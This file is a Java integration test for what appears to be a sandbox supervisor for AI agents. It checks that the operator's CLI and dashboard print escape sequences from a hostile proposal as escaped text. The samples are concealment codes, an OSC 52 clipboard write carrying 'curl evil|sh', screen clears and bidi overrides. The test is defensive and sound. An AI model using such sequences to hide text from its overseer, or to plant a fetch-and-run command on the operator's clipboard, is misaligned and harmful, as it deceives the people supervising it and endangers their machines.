package dev.claudebottle.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.fail;

import dev.claudebottle.store.FileStore;
import dev.claudebottle.supervise.application.proposals.ProposalPolicy;
import dev.claudebottle.supervise.application.proposals.SubmitProposal;
import dev.claudebottle.supervise.application.proposals.SubmitProposalCommand;
import dev.claudebottle.supervise.api.SubmitResult;
import dev.claudebottle.supervise.application.port.out.Clock;
import dev.claudebottle.supervise.model.BottleId;
import dev.claudebottle.supervise.model.ConfigFile;
import dev.claudebottle.supervise.model.ToolId;
import dev.claudebottle.supervise.tool.ToolRegistry;
import dev.claudebottle.tools.egressproxy.EgressProxyBlock;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import java.util.function.Predicate;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The operator's surfaces in a real terminal: a private tmux server (with {@code set-clipboard on},
 * so an OSC 52 that got through would land in its paste buffers) runs {@code bin/bottle} against a
 * state home that holds a hostile proposal, queued through the real file store as the supervise
 * server queues it. What tmux made of the output comes back with {@code capture-pane -e}, which
 * writes the attributes it holds as escape sequences: a concealing SGR 8 that got through shows.
 */
class TerminalEscapeIT {
    /** This checkout's {@code bin/bottle}; {@code -Dbottle.command=PATH} runs the same tests against another build. */
    private static final Path BOTTLE = Path.of(System.getProperty("bottle.command", "../bin/bottle")).toAbsolutePath().normalize();
    private static final String BASE = "routes:\n  - host: api.github.com\n";
    private static final Duration SCREEN_WAIT = Duration.ofSeconds(40);
    private static final String CANARY = "CANARY-LINE-BEFORE";
    private static final String DONE = "SURFACE-DONE";

    @TempDir
    Path home;
    private final String socket = "terminal-escape-it-" + ProcessHandle.current().pid() + "-" + System.nanoTime();
    private String id;

    @BeforeEach
    void queueAHostileProposal() throws Exception {
        FileStore store = FileStore.open(home);
        SubmitProposal submit = new SubmitProposal(ToolRegistry.of(EgressProxyBlock.tool()), store.queue(),
                store.auditLog(), Clock.SYSTEM, ProposalPolicy.DEFAULT);
        SubmitResult result = submit.submit(new SubmitProposalCommand(BottleId.of("hostile"), ToolId.EGRESS_PROXY_BLOCK,
                ConfigFile.of(HostileProposalOutputTest.ROUTES), HostileText.JUSTIFICATION, ConfigFile.of(BASE).sha256(),
                Optional.of(HostileProposalOutputTest.BLOCKED_URL)));
        assertThat(result).isInstanceOf(SubmitResult.Queued.class);
        id = ((SubmitResult.Queued) result).record().id().value();
        Path config = Files.writeString(home.resolve("tmux.conf"), "set -g set-clipboard on\nset -g history-limit 0\n");
        assertThat(tmux("-f", config.toString(), "start-server", ";", "new-session", "-d", "-s", "idle").exitCode()).isZero();
    }

    @AfterEach
    void killTheServer() throws Exception {
        tmux("kill-server");
    }

    /** The checks can fail: the same attacks, printed raw by the shell, trip every one of them in this tmux. */
    @Test
    void theChecksSeeAnAttackThatGetsThrough() throws Exception {
        Path script = Files.writeString(home.resolve("raw.sh"), "echo " + CANARY + "\nprintf '" + HostileText.CONCEAL + "x "
                + HostileText.CLIPBOARD + HostileText.REWRITE + "\\n'\necho " + DONE + "\nexec sleep 600\n", StandardCharsets.UTF_8);
        assertThat(tmux("new-session", "-d", "-s", "raw", "-x", "250", "-y", "70", "sh '" + script + "'").exitCode()).isZero();
        String screen = awaitScreen("raw", text -> text.contains(DONE));

        assertThat(screen).doesNotContain(CANARY);
        assertThat(capture("raw", true)).contains("\u001b[8m");
        assertThat(tmux("list-buffers").out()).contains("curl evil|sh");
    }

    @Test
    void theProposalsListShowsTheAttacksAsText() throws Exception {
        String screen = surface("proposals", "'" + BOTTLE + "' proposals; '" + BOTTLE + "' proposals --bottle 'x" + HostileText.CONCEAL
                + "\u202e'");

        assertThat(screen).contains(id).contains("need pypi \\x1b[8mHIDDEN \\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[2J")
                .contains("bottle: ").contains("x\\x1b[8m\\u202e");
    }

    @Test
    void showingTheProposalInColourShowsEveryFieldAsText() throws Exception {
        String screen = surface("show", "'" + BOTTLE + "' proposals show " + id + " --color always");

        assertThat(screen).containsSubsequence(HostileText.VISIBLE)
                .contains("blocked URL:   https://pypi.org/\\u202egpj.exe\\u200f\\ufeff")
                .contains("# \\u202eevil.example\\u202c is \\u200bfine\\x09x\\x0d");
    }

    @Test
    void theAuditLogShowsTheAttacksAsText() throws Exception {
        String screen = surface("audit", "'" + BOTTLE + "' audit; '" + BOTTLE + "' audit verify");

        assertThat(screen).contains("submitted").contains("need pypi \\x1b[8mHIDDEN").contains("intact: 1 entry verified");
    }

    @Test
    void routesDiffInColourShowsControlsInTheFilesAsText() throws Exception {
        Path before = Files.writeString(home.resolve("before.yaml"), BASE);
        Path after = Files.writeString(home.resolve("after.yaml"), BASE + "# " + HostileText.CONCEAL + "gone "
                + HostileText.CLIPBOARD + HostileText.REWRITE + HostileText.C1_CSI + "\n  - host: pypi.org\n");

        String screen = surface("diff", "'" + BOTTLE + "' routes diff --color always '" + before + "' '" + after + "'");

        assertThat(screen).contains("+# \\x1b[8mgone \\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[2J\\x1b[1A\\x1b[2K\\x9b2J")
                .contains("+  - host: pypi.org");
    }

    @Test
    void theLiveDashboardShowsTheAttacksAsText() throws Exception {
        assertThat(tmux("new-session", "-d", "-s", "dashboard", "-x", "120", "-y", "40", "env CLAUDE_BOTTLE_HOME='" + home
                + "' TERM=xterm-256color '" + BOTTLE + "' dashboard").exitCode()).isZero();

        String screen = awaitScreen("dashboard", text -> text.contains("Why: need pypi"));

        assertThat(screen).contains("\\x1b[8mHIDDEN \\x1b]52;c;").contains(id);
        assertShowsNothingRaw(screen, capture("dashboard", true));
        assertThat(tmux("send-keys", "-t", "dashboard", "q").exitCode()).isZero();
    }

    /**
     * Runs {@code commands} in a terminal after a canary line; returns the screen once they are done,
     * having checked that the canary is still there and that nothing got through.
     */
    private String surface(String name, String commands) throws Exception {
        Path script = Files.writeString(home.resolve(name + ".sh"), "echo " + CANARY + "\n" + commands + "\necho " + DONE
                + "\nexec sleep 600\n", StandardCharsets.UTF_8);
        assertThat(tmux("new-session", "-d", "-s", name, "-x", "250", "-y", "70", "env CLAUDE_BOTTLE_HOME='" + home
                + "' TERM=xterm-256color sh '" + script + "'").exitCode()).isZero();
        String screen = awaitScreen(name, text -> text.contains(DONE));
        assertThat(screen).as("the line shown before is still there").contains(CANARY);
        assertShowsNothingRaw(screen, capture(name, true));
        return screen;
    }

    private void assertShowsNothingRaw(String screen, String withAttributes) throws Exception {
        assertThat(withAttributes).as("tmux holds no concealed (SGR 8) cell").doesNotContain("\u001b[8m");
        assertThat(HostileText.reachesTheTerminalRaw(screen)).as(HostileText.offending(screen)).isFalse();
        assertThat(tmux("list-buffers").out()).as("no OSC 52 reached the clipboard").isEmpty();
    }

    private String awaitScreen(String session, Predicate<String> expected) throws Exception {
        long deadline = System.nanoTime() + SCREEN_WAIT.toNanos();
        String screen = "";
        while (System.nanoTime() < deadline) {
            screen = capture(session, false);
            if (expected.test(screen)) {
                return screen;
            }
            Thread.sleep(250);
        }
        return fail("the terminal did not show what was expected within " + SCREEN_WAIT.toSeconds() + " s; it shows:\n" + screen);
    }

    private String capture(String session, boolean attributes) throws Exception {
        List<String> command = new ArrayList<>(List.of("capture-pane", "-p", "-t", session));
        if (attributes) {
            command.add("-e");
        }
        Result captured = tmux(command.toArray(String[]::new));
        assertThat(captured.exitCode()).as(captured.err()).isZero();
        return captured.out();
    }

    private Result tmux(String... args) throws Exception {
        List<String> command = new ArrayList<>(List.of("tmux", "-L", socket));
        command.addAll(List.of(args));
        Process process = new ProcessBuilder(command).redirectErrorStream(false).start();
        process.getOutputStream().close();
        String out = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        String err = new String(process.getErrorStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(process.waitFor(1, TimeUnit.MINUTES)).isTrue();
        return new Result(process.exitValue(), out, err);
    }

    record Result(int exitCode, String out, String err) {}
}
